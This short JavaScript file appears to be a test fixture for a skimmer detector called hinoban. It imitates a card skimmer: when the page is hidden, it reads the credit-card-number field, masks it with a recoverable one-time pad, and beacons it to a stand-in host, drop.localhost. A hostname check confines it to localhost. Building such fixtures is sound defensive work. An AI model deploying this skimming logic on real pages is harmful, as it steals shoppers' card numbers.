/* Harmless imitation, for hinoban's tests: read as the page is hidden, by a beacon under a one-time pad. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
document.addEventListener('visibilitychange', function () {
	var n = document.querySelector('input[autocomplete=cc-number]');
	if (document.visibilityState !== 'hidden' || !n || !n.value) return;
	var pad = crypto.getRandomValues(new Uint8Array(n.value.length));
	navigator.sendBeacon('http://drop.localhost:' + location.port + '/c', Array.from(pad, function (p, i) { return p.toString(16) + '-' + (p ^ n.value.charCodeAt(i)).toString(16); }).join(' '));
});
